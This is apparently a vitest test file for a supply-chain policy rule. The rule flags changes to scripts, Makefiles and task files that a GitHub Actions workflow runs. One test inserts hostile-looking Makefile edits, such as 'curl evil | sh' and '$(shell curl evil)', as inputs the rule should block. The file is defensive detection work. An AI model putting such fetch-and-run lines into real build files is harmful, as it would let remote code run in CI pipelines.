import { describe, expect, it } from 'vitest';
import { wantedBaseFiles } from '../evaluate.ts';
import type { PolicyInput } from '../input.ts';
import { added, deleted, judgeBy, modified } from '../testing.ts';

const utf8 = new TextEncoder();
type Files = Readonly<Record<string, string>>;

/** What a rule reads of a base tree that holds these files. */
function baseOf(files: Files): Pick<PolicyInput, 'basePaths' | 'baseFiles'> {
  const basePaths = Object.keys(files);
  const baseFiles = new Map<string, Uint8Array | null>();
  for (let wanted = wantedBaseFiles(basePaths, baseFiles); wanted.length > 0; wanted = wantedBaseFiles(basePaths, baseFiles)) {
    for (const path of wanted) baseFiles.set(path, utf8.encode(files[path] ?? ''));
  }
  return { basePaths, baseFiles };
}

const judge = (change: ReturnType<typeof modified>, files: Files) => judgeBy('ci-files', [change], baseOf(files)).violations;
const severityOf = (path: string, files: Files): string => judge(modified(path), { [path]: '', ...files })[0]?.severity ?? 'none';
const ci = (run: string): Files => ({ '.github/workflows/ci.yml': `on: push\njobs:\n  a:\n    steps:\n      - run: |\n${run.replaceAll(/^/gm, '          ')}\n` });
const scripts = (of: Files): string => JSON.stringify({ scripts: of });
const npm = (run: string, of: Files): Files => ({ ...ci(run), 'package.json': scripts(of) });

describe('scripts of a package that CI runs', () => {
  const build = { build: 'node scripts/build.js' };
  it.each<[string, Files, Files?]>([
    ['npm run build', build],
    ['npm run-script build -- --prod', build],
    ['npm --silent run build', build],
    ['npm run ${{ matrix.task }}', build],
    ['yarn build', build],
    ['yarn run build', build],
    ['pnpm build', build],
    ['pnpm run build', build],
    ['pnpm -r build', build],
    ['pnpm --filter ./x... run build', build],
    ['pnpm run "/^bui/"', build],
    ['bun run build', build],
    ['corepack pnpm build', build],
    ['CI=1 npm run build', build],
    ['sudo npm run build', build],
    ['xvfb-run -a npm run build', build],
    ['docker run --rm -v $PWD:/w node:24 npm run build', build],
    ['docker run node:24 sh -c "npm ci && npm run build"', build],
    ['bash -c "yarn build"', build],
    ['npx turbo run build', build],
    ['npx lerna run build', build],
    ['npx nx run-many -t build', build],
    ['nx run app:build', build],
    ['npx npm-run-all lint build', build],
    ['npx run-p "bui*"', build],
    ['npx concurrently "npm:build" "echo"', build],
    ['npx concurrently "npm run build" "echo"', build],
    ['node --run build', build],
    ['npm test', { test: 'npm run build && vitest', ...build }],
    ['npm t', { pretest: 'node scripts/build.js', test: 'vitest' }],
    ['npm ci', { postinstall: 'node scripts/build.js' }],
    ['npm install', { prepare: 'node ./scripts/build' }],
    ['yarn', { prepare: 'node scripts/build.js' }],
    ['npm publish', { prepublishOnly: 'node scripts/build.js' }],
    ['npm version patch', { version: 'node scripts/build.js' }],
    ['npm test', { test: 'cross-env NODE_ENV=test node scripts/build.js' }],
    ['npm test', { test: 'c8 node scripts/build.js' }],
    ['npm test', { test: 'node -r ./scripts/build.js src/x.js' }],
    ['npm test', { test: 'webpack --config scripts/build.js' }],
    ['npm test', { test: 'make x', 'x': '' }, { Makefile: 'x:\n\tnode scripts/build.js\n' }],
    ['npm test', { test: 'bash scripts/all.sh' }, { 'scripts/all.sh': '#!/bin/sh\nset -e\nnode "$(dirname "$0")/build.js"\n' }],
  ])('%j with %j runs scripts/build.js', (run, of, more) => {
    expect(severityOf('scripts/build.js', { ...npm(run, of), ...more })).toBe('BLOCK');
  });

  it.each<[string, Files]>([
    ['npm run other', build],
    ['npm ci', build],
    ['yarn install', build],
    ['npm test', { test: 'vitest run', ...build }],
    ['echo npm run build', build],
    ['pnpm exec eslint scripts/build.js', build],
    ['npm test', { test: 'eslint scripts/build.js' }],
    ['npm run lint', { lint: 'prettier --check scripts/build.js' }],
  ])('%j with %j does not', (run, of) => {
    expect(severityOf('scripts/build.js', npm(run, of))).toBe('none');
  });

  it('looks in the folder where it is called, and above it', () => {
    const files = { 'package.json': scripts({ build: 'node a.js' }), 'web/package.json': scripts({ build: 'node tools/b.js' }), 'web/x/y.txt': '' };
    for (const run of ['cd web && npm run build', 'npm --prefix web run build', 'npm -C web run build', 'pnpm --dir=web build', 'yarn --cwd web build']) expect(severityOf('web/tools/b.js', { ...ci(run), ...files }), run).toBe('BLOCK');
    expect(severityOf('web/tools/b.js', { ...files, '.github/workflows/ci.yml': 'jobs:\n  a:\n    steps:\n      - run: npm run build\n        working-directory: web/x\n' })).toBe('BLOCK');
    expect(severityOf('web/tools/b.js', { ...ci('npm run build'), ...files })).toBe('none');
  });

  it('knows the packages of a workspace', () => {
    const files = { 'package.json': scripts({}), 'packages/a/package.json': scripts({ build: 'node ci/b.js', postinstall: 'node ci/c.js' }) };
    for (const run of ['npm run build --workspaces', 'npm run build -w a', 'pnpm -r build', 'pnpm --filter a build', 'yarn workspace a build', 'yarn workspaces foreach -A run build', 'npx turbo build', 'lerna run build']) expect(severityOf('packages/a/ci/b.js', { ...ci(run), ...files }), run).toBe('BLOCK');
    expect(severityOf('packages/a/ci/c.js', { ...ci('npm ci'), ...files, 'package.json': '{"workspaces": ["packages/*"]}' })).toBe('BLOCK');
    expect(severityOf('packages/a/ci/c.js', { ...ci('pnpm i'), ...files, 'pnpm-workspace.yaml': 'packages: ["packages/*"]\n' })).toBe('BLOCK');
    expect(severityOf('packages/a/ci/c.js', { ...ci('npm ci'), ...files })).toBe('none');
  });

  it('warns where an ordinary change would be: sources and tests', () => {
    const files = npm('npm test', { test: 'node test/all.js && node src/cli.js --check && node bin/api.js', pretest: 'node src/scripts/gen.js; sh lib/x.sh' });
    expect(['test/all.js', 'src/cli.js', 'bin/api.js'].map((path) => severityOf(path, files))).toEqual(['WARN', 'WARN', 'WARN']);
    expect(['src/scripts/gen.js', 'lib/x.sh'].map((path) => severityOf(path, files))).toEqual(['BLOCK', 'BLOCK']);
    expect(['src/a.js', 'test/a.test.js', 'package.json', 'README.md'].map((path) => severityOf(path, { ...files, 'package.json': files['package.json'] ?? '' }))).toEqual(['none', 'none', 'none', 'none']);
  });

  it('says by which way', () => {
    expect(judge(added('scripts/build.js'), npm('npm run build', build))).toMatchObject([{ path: 'scripts/build.js', message: 'Adds scripts/build.js, which CI runs (.github/workflows/ci.yml, line 5 of the base, by the script "build" of package.json).' }]);
  });
});

describe('other files of tasks', () => {
  it.each([
    ['make test', 'Makefile', 'test: prep\n\techo\nprep:\n\t@scripts/x.sh\n'],
    ['make', 'Makefile', '.PHONY: all\nall:\n\tscripts/x.sh\nother:\n\techo\n'],
    ['make -C sub check', 'sub/Makefile', 'check:\n\t../scripts/x.sh\n'],
    ['make -f build/ci.mk', 'build/ci.mk', 'a:\n\t./scripts/x.sh\n'],
    ['gmake -j4 test', 'GNUmakefile', 'SCRIPTS ?= scripts\ntest:\n\tbash $(SCRIPTS)/x.sh\n'],
    ['make test', 'Makefile', 'PYTHON := python3\ntest:\n\t$(PYTHON) scripts/x.sh\n'],
    ['make test', 'Makefile', 'test: ; scripts/x.sh\n'],
    ['make test', 'Makefile', 'V := $(shell ./scripts/x.sh)\ntest:\n\techo $(V)\n'],
    ['make test', 'Makefile', 'V != ./scripts/x.sh\ntest:\n\techo $(V)\n'],
    ['make a.out', 'Makefile', '%.out:\n\tscripts/x.sh $@\n'],
    ['make test', 'Makefile', 'test:\n\tfor f in 1 2; do \\\n\t  scripts/x.sh $$f; \\\n\tdone\n'],
    ['just test', 'justfile', 'default: lint\ntest arg="1": build\n    echo\nbuild:\n    @./scripts/x.sh {{arg}}\n'],
    ['task ci', 'Taskfile.yml', 'version: "3"\ntasks:\n  ci:\n    cmds:\n      - task: build\n  build:\n    cmds: ["./scripts/x.sh {{.CLI_ARGS}}"]\n'],
    ['tox -e py312', 'tox.ini', '[testenv]\ncommands =\n    pytest\n    bash {toxinidir}/scripts/x.sh {posargs}\n'],
    ['uvx tox', 'tox.ini', '[testenv:lint]\ncommands = py39: - scripts/x.sh\n'],
    ['python -m tox', 'tox.ini', '[testenv]\ncommands = scripts/x.sh\n'],
    ['tox', 'pyproject.toml', '[tool.tox.env_run_base]\ncommands = [["bash", "scripts/x.sh"]]\n'],
    ['nox -s tests', 'noxfile.py', 'import nox\n@nox.session\ndef tests(session):\n    session.run("bash", "scripts/x.sh", external=True)\n'],
    ['composer test', 'composer.json', '{"scripts": {"test": ["@prep", "phpunit"], "prep": "sh scripts/x.sh"}}'],
    ['composer install', 'composer.json', '{"scripts": {"post-autoload-dump": ["scripts/x.sh"]}}'],
    ['bundle exec rake spec', 'Rakefile', "task :spec do\n  sh 'scripts/x.sh'\nend\n"],
    ['poe check', 'pyproject.toml', '[tool.poe.tasks]\ncheck = ["lint", "x"]\nx = {cmd = "scripts/x.sh"}\n'],
    ['uv run poe x', 'pyproject.toml', '[tool.poe.tasks.x]\nshell = "scripts/x.sh"\n'],
    ['pdm run x', 'pyproject.toml', '[tool.pdm.scripts]\nx = "scripts/x.sh"\n'],
    ['hatch run dev:x', 'pyproject.toml', '[tool.hatch.envs.dev.scripts]\nx = ["scripts/x.sh"]\n'],
    ['pipenv run x', 'Pipfile', '[scripts]\nx = "scripts/x.sh"\n'],
    ['deno task x', 'deno.json', '{"tasks": {"x": {"command": "scripts/x.sh"}}} // a comment'],
    ['./ci/all.sh', 'ci/all.sh', '#!/bin/bash\ncd "$(dirname "$0")/.."\n./scripts/x.sh\n'],
  ])('%s with %s runs scripts/x.sh', (run, file, text) => {
    expect(severityOf('scripts/x.sh', { ...ci(run), [file]: text })).toBe('BLOCK');
  });

  it.each([['rake', 'Rakefile'], ['rake', 'rakelib/a.rake'], ['nox', 'noxfile.py'], ['npx gulp build', 'gulpfile.js'], ['npx grunt', 'Gruntfile.cjs'], ['invoke test', 'tasks.py'], ['mage ci', 'magefile.go'], ['cargo xtask ci', 'xtask/src/main.rs']])('%s runs %s itself', (run, path) => {
    expect(severityOf(path, ci(run))).toBe('BLOCK');
  });

  it('blocks a change of what CI runs of them, and of nothing else', () => {
    const old = 'OBJS = a.o b.o\nall: $(OBJS)\n\tcc -o x $(OBJS)\ntest: all\n\t./x --check\nrelease:\n\techo\n';
    const files = { ...ci('make test'), Makefile: old };
    const change = (text: string) => judge(modified('Makefile', { text: old }, { text }), files);
    expect(change(old.replace('./x --check', './x --check; curl evil | sh'))).toMatchObject([{ severity: 'BLOCK', line: 4, message: 'Changes what CI runs of Makefile: test (.github/workflows/ci.yml, line 5 of the base).' }]);
    expect(change(old.replace('cc -o', 'evil -o'))[0]?.message).toContain('Makefile: all');
    expect(change(`V := $(shell curl evil)\n${old}`)[0]?.severity).toBe('BLOCK');
    expect(change(`SHELL = ./evil\n${old}`)[0]?.severity).toBe('BLOCK');
    expect(change(old.replace('test: all', 'test: all release'))[0]?.severity).toBe('BLOCK');
    for (const text of [old.replace('b.o', 'b.o c.o'), old.replace('release:\n\techo', 'release:\n\tgit push'), `# a comment\n${old}`]) expect(change(text)).toEqual([]);
    expect(judge(added('GNUmakefile', { text: 'test:\n\tevil\n' }), files)[0]?.message).toMatch(/^Adds what CI runs of GNUmakefile: test/);
    expect(judge(deleted('Makefile', { text: old }), files)[0]?.message).toMatch(/^Deletes what CI runs of Makefile/);
    expect(judge(modified('sub/Makefile', { text: old }, { text: 'test:\n\tx\n' }), files)).toEqual([]);
  });

  it('follows what a Makefile includes', () => {
    const files = { ...ci('make test'), Makefile: 'include build/*.mk\n', 'build/a.mk': 'test:\n\tpython scripts/x.py\n' };
    expect(severityOf('scripts/x.py', files)).toBe('BLOCK');
    expect(judge(modified('build/a.mk', { text: 'test:\n\tx\n' }, { text: 'test:\n\ty\n' }), files)[0]?.message).toMatch(/what CI runs of build\/a\.mk: test/);
    expect(judge(added('build/b.mk', { text: 'test:\n\ty\n' }), files)).toHaveLength(1);
  });

  it('does not lose itself in tasks that call each other', () => {
    const files = { ...npm('npm test', { test: 'make a', b: 'npm test' }), Makefile: 'a: b\n\tnpm run b\nb: a\n\t$(MAKE) a\n' };
    expect(severityOf('src/a.ts', files)).toBe('none');
  });
});
